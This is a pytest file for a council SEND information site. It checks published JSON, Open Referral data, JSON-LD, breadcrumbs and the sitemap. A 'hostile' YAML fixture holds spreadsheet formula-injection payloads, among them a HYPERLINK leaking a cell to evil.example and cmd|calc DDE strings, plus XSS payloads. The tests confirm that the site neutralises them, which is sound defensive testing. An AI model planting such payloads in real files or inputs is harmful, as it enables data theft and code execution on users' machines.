"""Open data: the published JSON is valid against the published schema, Open Referral UK files have
its shape, and the JSON-LD in pages says what the page shows."""

from __future__ import annotations

import json
import re
from html import unescape

import jsonschema
import pytest

from support import ROOT
from test_site import AUTHORITIES, SLUGS, page_text


def json_ld(html: str) -> list[dict]:
    return [json.loads(block) for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)]


def test_each_councils_data_is_published_and_valid_against_the_published_schema(built_site):
    schema = json.loads((built_site / "data" / "authority.schema.json").read_text(encoding="utf-8"))
    assert schema == json.loads((ROOT / "authorities" / "authority.schema.json").read_text(encoding="utf-8"))
    combined = json.loads((built_site / "data" / "authorities.json").read_text(encoding="utf-8"))["authorities"]
    assert [d["slug"] for d in combined] == [a.slug for a in AUTHORITIES]
    for authority, from_list in zip(AUTHORITIES, combined):
        document = json.loads((built_site / "data" / f"{authority.slug}.json").read_text(encoding="utf-8"))
        assert document == from_list and document["$schema"] == "authority.schema.json"
        jsonschema.Draft202012Validator(schema).validate(document)
        assert document["name"] == authority.name and document["last_reviewed"] == authority.last_reviewed.isoformat()


@pytest.mark.parametrize("slug", SLUGS)
def test_open_referral_files_have_the_shape_and_the_contacts(built_site, slug):
    authority = next(a for a in AUTHORITIES if a.slug == slug)
    data = json.loads((built_site / "data" / "open-referral" / f"{slug}.json").read_text(encoding="utf-8"))
    assert {"id", "name", "description", "services"} <= set(data) and data["name"] == authority.name
    assert [s["name"] for s in data["services"]] == [c.name for c in authority.contacts]
    for service, contact in zip(data["services"], authority.contacts):
        assert {"id", "name", "description", "status"} <= set(service)
        phones = [p["number"] for c in service.get("contacts", []) for p in c["phones"]]
        assert phones == ([contact.phone] if contact.phone else [])
        assert service.get("email") == contact.email


def test_faq_pages_carry_the_questions_and_answers_they_show(built_site):
    html = (built_site / "stockton-on-tees" / "faqs" / "index.html").read_text(encoding="utf-8")
    (faq,) = [d for d in json_ld(html) if d["@type"] == "FAQPage"]
    shown = [unescape(re.sub(r"<[^>]+>", "", q)).strip() for q in re.findall(r'<summary class="lo-faq__question">(.*?)</summary>', html, re.S)]
    assert [q["name"] for q in faq["mainEntity"]] == shown
    words = lambda text: re.sub(r"\W+", " ", text).strip()  # noqa: E731 - tags leave spaces by punctuation
    visible = words(page_text(built_site, "stockton-on-tees/faqs"))
    for question in faq["mainEntity"]:
        assert words(_Answer(question["acceptedAnswer"]["text"]).words) in visible  # read as HTML, as search engines do


def test_contacts_pages_carry_the_organisation_and_its_contact_points(built_site):
    html = (built_site / "stockton-on-tees" / "contacts" / "index.html").read_text(encoding="utf-8")
    (organization,) = [d for d in json_ld(html) if d["@type"] == "GovernmentOrganization"]
    assert organization["name"] == "Stockton-on-Tees Borough Council"
    visible = page_text(built_site, "stockton-on-tees/contacts")
    for point in organization["contactPoint"]:
        assert point["name"] in visible and point["telephone"] in visible and point["email"] in visible


def test_every_page_carries_a_breadcrumb_trail(built_site):
    for page in built_site.rglob("index.html"):
        trails = [d for d in json_ld(page.read_text(encoding="utf-8")) if d["@type"] == "BreadcrumbList"]
        assert len(trails) == 1, page
        assert trails[0]["itemListElement"][0]["name"] == "Home"
    trail = [d for d in json_ld((built_site / "trafford" / "funding" / "index.html").read_text()) if d["@type"] == "BreadcrumbList"][0]
    assert [i["name"] for i in trail["itemListElement"]] == ["Home", "Trafford", "Funding and top-up"]


def test_the_sitemap_dates_council_pages_by_their_review_and_robots_points_to_it(built_site):
    sitemap = (built_site / "sitemap.xml").read_text(encoding="utf-8")
    assert re.search(r"trafford/funding/</loc>\s*<lastmod>2026-11-22</lastmod>", sitemap)
    assert "Sitemap: " in (built_site / "robots.txt").read_text() and "sitemap.xml" in (built_site / "robots.txt").read_text()


HOSTILE = """\
name: -1-1 Borough Council
short_name: Example
slug: example
last_reviewed: 2026-01-15
terminology:
  plan_name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
  support_level_names: ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
sen_support:
  summary: Schools in Example give extra help to children who need it.
assess_plan_do_review:
  steps: {assess: Look., plan: Plan., do: Do., review: Review.}
  review_frequency: "＝1+1"
funding:
  elements:
    - name: Element 2
      amount: 6000
  top_up:
    name: "%0A-2+3+cmd|' /C calc'!A0"
contacts:
  - role: sendiass
    name: "@SUM(A1:A9)"
    phone: "01234 567890"
faqs:
  - question: "=1+1, and <b>bold</b>?"
    answer: >-
      Typed HTML <a href="https://evil.example/">click here</a> <script>alert(1)</script>
      <img src=x onerror=alert(1)>, a real [link](https://www.example.gov.uk/send), Tom & Jerry < 3,
      and [a bad one](javascript:alert(1)).
sources:
  - title: SEN support in Example
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from support import build_one

    result, site = build_one(tmp_path_factory.mktemp("hostile"), HOSTILE)
    assert result.returncode == 0, result.stderr
    return site


def test_no_cell_of_the_compare_csv_runs_as_a_spreadsheet_formula(hostile_site):
    import csv
    import io
    import unicodedata

    rows = list(csv.reader(io.StringIO((hostile_site / "data" / "compare.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    neutralised = 0
    for cell in rows[0] + rows[1]:
        start = unicodedata.normalize("NFKC", cell).lstrip()[:1]
        assert start not in ("=", "+", "-", "@", "\t", "\r", "|", "%"), cell
        neutralised += cell.startswith("'")
    # The council, the levels, the review, the plan, the top-up and SENDIASS columns all began like formulas.
    assert neutralised == 6, rows[1]
    assert "'=HYPERLINK(" in rows[1][6] or any(c.startswith("'=HYPERLINK(") for c in rows[1])


class _Answer(__import__("html.parser").parser.HTMLParser):
    """The visible text and the working links of a piece of HTML, as a browser would show it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text, self.links, self.tags = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "a":
            self.links.append(dict(attrs).get("href"))

    def handle_data(self, data):
        self.text.append(data)

    @property
    def words(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.text)).strip()


def test_the_faq_json_ld_holds_exactly_what_the_page_shows(hostile_site):
    html = (hostile_site / "example" / "faqs" / "index.html").read_text(encoding="utf-8")
    (faq,) = [d for d in json_ld(html) if d["@type"] == "FAQPage"]
    answer_html = re.search(r'<div class="lo-faq__answer">(.*?)</div>\s*</details>', html, re.S).group(1)
    shown, published = _Answer(answer_html), _Answer(faq["mainEntity"][0]["acceptedAnswer"]["text"])
    assert published.words == shown.words and "click here" in published.words
    assert '<a href="https://evil.example/">' in published.words  # shown as text, as on the page
    assert published.links == shown.links == ["https://www.example.gov.uk/send"]
    assert set(published.tags) <= {"p", "a", "ul", "ol", "li", "strong", "em", "br"}
    assert faq["mainEntity"][0]["name"] == "=1+1, and <b>bold</b>?"
    assert "<b>bold</b>" not in html.split('<script type="application/ld+json">')[0]
